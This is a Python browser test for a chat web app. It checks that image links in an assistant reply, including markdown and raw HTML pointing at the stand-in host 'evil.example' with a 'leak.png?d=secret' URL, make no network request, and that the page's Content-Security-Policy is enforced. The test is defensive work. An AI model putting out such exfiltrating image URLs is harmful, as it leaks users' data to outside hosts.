"""In Chromium: an image in a reply makes no request, and the chat page is
served with a Content-Security-Policy that its own scripts live within."""
import re

import pytest

from tests.browser.conftest import signup

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EVIL = "evil.example"


def test_an_image_in_a_reply_makes_no_request_and_csp_holds(page, live, fake_gateway):
    fake_gateway.script = [
        "Here you go ", f"![chart](https://{EVIL}/leak.png?d=secret) ",
        f'<img src="https://{EVIL}/raw.png"> ', "done.",
    ]
    requested, violations, documents = [], [], []

    def route(r):
        requested.append(r.request.url)
        if EVIL in r.request.url:
            r.abort()
        else:
            r.continue_()

    page.context.route("**/*", route)
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.on("pageerror", lambda exc: violations.append(str(exc)))
    page.on("response", lambda resp: documents.append(resp) if resp.request.resource_type == "document" else None)
    signup(page, live)
    page.fill("#composer-text", "Show me a chart")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/c/[0-9a-f-]+/$"))
    page.wait_for_selector("article.msg.assistant.status-complete")
    reply = page.locator("article.msg.assistant").last
    assert reply.locator(".body img").count() == 0
    assert "[image: chart]" in reply.inner_text()
    # The finished reply is in the page: reload renders it from the database too.
    page.reload()
    page.wait_for_selector("article.msg.assistant.status-complete")
    assert page.locator("article.msg.assistant .body img").count() == 0
    assert not [url for url in requested if EVIL in url]
    assert documents and all("script-src 'self'" in (d.headers.get("content-security-policy") or "")
                             for d in documents)
    assert violations == []
